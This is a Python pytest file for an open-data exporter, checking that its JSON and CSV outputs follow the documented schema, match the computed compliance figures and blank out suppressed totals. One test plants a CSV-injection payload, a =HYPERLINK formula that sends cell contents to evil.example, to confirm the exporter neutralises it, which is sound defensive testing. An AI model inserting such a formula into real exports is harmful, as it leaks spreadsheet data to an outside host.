"""Open data: JSON and CSV follow the documented schema and agree with the projection."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from pathlib import Path

import pytest
from helpers import write_repo
from test_public_leak import AS_OF, canary_files

from generator import pipeline
from generator.public import PublicData, project
from generator.public.opendata import JSON_FILE, SCHEMA, SCHEMA_VERSION, TABLES, files, neutralise
from generator.site.public import render

DOCS = Path(__file__).resolve().parents[1] / "docs" / "opendata.md"
TOP_KEYS = {"schema", "schema_version", "institution", "as_of", "policy", "min_group_size", *(t.key for t in TABLES)}
TYPES = {
    "string": lambda v: isinstance(v, str),
    "integer": lambda v: isinstance(v, int) and not isinstance(v, bool),
    "number": lambda v: isinstance(v, (int, float)) and not isinstance(v, bool),
    "boolean": lambda v: isinstance(v, bool),
    "date": lambda v: isinstance(v, str) and re.fullmatch(r"\d{4}-\d{2}-\d{2}", v) is not None,
}


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> PublicData:
    repo = write_repo(tmp_path_factory.mktemp("opendata") / "repo", canary_files())
    return project(pipeline.run(repo, AS_OF, use_git=False))


@pytest.fixture(scope="module")
def downloads(data: PublicData) -> dict[str, bytes]:
    return files(data)


def test_files_are_the_documented_ones_and_reach_the_site(data: PublicData, downloads: dict[str, bytes]) -> None:
    assert set(downloads) == {JSON_FILE, *(t.file for t in TABLES)}
    site_files = render(data).files
    # besides the open data: one workbook per public allocation list (tests/test_public_leak.py)
    assert {k for k in site_files if k not in downloads} == {f"allocation/{a.id}.xlsx" for a in data.allocations}
    assert {k: v for k, v in site_files.items() if k in downloads} == downloads
    page = render(data).pages["opendata.md"]
    assert all(f"]({name})" in page for name in downloads)


def test_json_follows_the_schema(downloads: dict[str, bytes]) -> None:
    raw = downloads[JSON_FILE]
    assert not raw.startswith(b"\xef\xbb\xbf")
    doc = json.loads(raw)
    assert set(doc) == TOP_KEYS
    assert doc["schema"] == SCHEMA and doc["schema_version"] == SCHEMA_VERSION == 1
    assert set(doc["institution"]) == {"code", "name", "publisher", "category"}
    assert set(doc["policy"]) == {"title", "document"}
    for table in TABLES:
        assert doc[table.key], f"{table.key} is empty in the fixture"
        for row in doc[table.key]:
            assert list(row) == table.names
            assert row["institution_code"] == doc["institution"]["code"] == "99999"
            for column in table.columns:
                value = row[column.name]
                assert value is None or TYPES[column.type](value), (table.key, column.name, value)


def test_csv_columns_and_values_match_the_json(downloads: dict[str, bytes]) -> None:
    doc = json.loads(downloads[JSON_FILE])
    for table in TABLES:
        raw = downloads[table.file]
        assert raw.startswith(b"\xef\xbb\xbf"), "CSV files carry a BOM for Excel"
        text = raw.decode("utf-8-sig")
        assert "\r\n" in text
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert rows[0] == ["schema_version", *table.names]
        assert len(rows) - 1 == len(doc[table.key])
        for got, want in zip(rows[1:], doc[table.key], strict=True):
            assert got[0] == str(SCHEMA_VERSION)
            expected = ["" if v is None else ("true" if v is True else "false" if v is False else str(v))
                        for v in want.values()]
            assert got[1:] == expected


def test_numbers_agree_with_the_projection(data: PublicData, downloads: dict[str, bytes]) -> None:
    doc = json.loads(downloads[JSON_FILE])
    term = data.terms[0]
    assert term.total is not None
    (row,) = doc["terms"]
    assert (row["term"], row["actors"], row["met"], row["unmet"], row["records"]) == (
        term.id, term.total.actors, term.total.met, term.total.unmet, term.records)
    assert row["rate"] == round(term.total.rate, 4) if term.total.rate is not None else row["rate"] is None
    for key, groups in (("compliance_by_unit", term.by_unit), ("compliance_by_role", term.by_role)):
        rows = doc[key]
        assert [(r["group_id"], r["actors"], r["met"], r["unmet"], r["pending"], r["exempt"]) for r in rows] == [
            (g.id, g.actors, g.met, g.unmet, g.pending, g.exempt) for g in groups]
        # each table is a partition of the actors: its rows add up to the total
        assert sum(r["actors"] for r in rows) == term.total.actors
        assert sum(r["met"] for r in rows) == term.total.met
    carriers = {r["carrier"]: r["records"] for r in doc["activities_by_carrier"]}
    assert carriers == {c.carrier: c.records for c in term.carriers}
    assert (sum(carriers.values()), term.records) == (9, 10)  # the one restricted record: in the total only
    (problems,) = doc["problems"]
    assert (problems["raised"], problems["resolved"], problems["open"]) == (
        term.problems.raised, term.problems.resolved, term.problems.open)
    assert problems["raised"] == 3 and problems["median_days_to_resolve"] == 5.0
    assert [r["number"] for r in doc["catalogue"]] == [e.number for e in data.catalogue]
    assert doc["as_of"] == AS_OF.isoformat() == row["as_of"]


def documented_columns() -> dict[str, list[tuple[str, str]]]:
    """File -> [(column, type)] from the tables under each '### data/…' heading of docs/opendata.md."""
    out: dict[str, list[tuple[str, str]]] = {}
    current = None
    for line in DOCS.read_text(encoding="utf-8").splitlines():
        heading = re.match(r"### (data/\S+\.csv)", line)
        if heading:
            current = heading.group(1)
            out[current] = []
        elif line.startswith("#"):
            current = None
        elif current and (cell := re.match(r"\| `(\w+)` \| (\w+) \|", line)):
            out[current].append((cell.group(1), cell.group(2)))
    return out


def test_docs_describe_every_file_and_column() -> None:
    documented = documented_columns()
    assert documented == {t.file: [(c.name, c.type) for c in t.columns] for t in TABLES}
    text = DOCS.read_text(encoding="utf-8")
    assert JSON_FILE in text and "schema_version" in text
    for key in TOP_KEYS:
        assert f"`{key}`" in text, key


def test_suppressed_totals_are_empty_not_zero(tmp_path: Path) -> None:
    """The mini fixture has one actor with mandatory rules: nothing about compliance is published."""
    data = project(pipeline.run(write_repo(tmp_path / "repo"), date(2025, 1, 20), use_git=False))
    doc = json.loads(files(data)[JSON_FILE])
    (row,) = doc["terms"]
    assert row["actors"] is None and row["rate"] is None and row["records"] == 2
    assert doc["compliance_by_unit"] == [] and doc["compliance_by_role"] == []
    terms_csv = files(data)["data/terms.csv"].decode("utf-8-sig").splitlines()
    assert terms_csv[1].split(",")[8] == ""  # actors


def test_cells_that_spreadsheets_would_run_are_neutralised(tmp_path: Path) -> None:
    """OWASP CSV injection: a summary =HYPERLINK(…) or a term named =1+2 is text in Excel too."""
    from helpers import MINI, reviewed

    calendar = (MINI / "rosters/calendar.yml").read_text(encoding="utf-8").replace("name: 2024—2025学年第一学期", "name: '=1+2'")
    summary = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    record = (MINI / "records/2024-2025-1/wang-jianguo/2024-10-16-canteen-meal.md").read_text(encoding="utf-8")
    record = record.replace("summary: 与护理2024级1班同学共进午餐。", f"summary: '{summary}'")
    repo = write_repo(tmp_path / "repo", reviewed({"rosters/calendar.yml": calendar,
                                                   "records/2024-2025-1/wang-jianguo/2024-10-16-canteen-meal.md": record}))
    out = files(project(pipeline.run(repo, AS_OF, use_git=False)))
    cells = [cell for table in TABLES for row in csv.reader(io.StringIO(out[table.file].decode("utf-8-sig")))
             for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert [neutralise(x) for x in ("@SUM(A1)", "+1", "-1", "\tx", "\rx", "a=b")] == [
        "'@SUM(A1)", "'+1", "'-1", "'\tx", "'\rx", "a=b"]
    assert "'=1+2" in cells
    assert "'" + summary in cells
    doc = json.loads(out[JSON_FILE])  # JSON is data, not a spreadsheet: values stay as written
    assert summary in [e["summary"] for e in doc["catalogue"]]
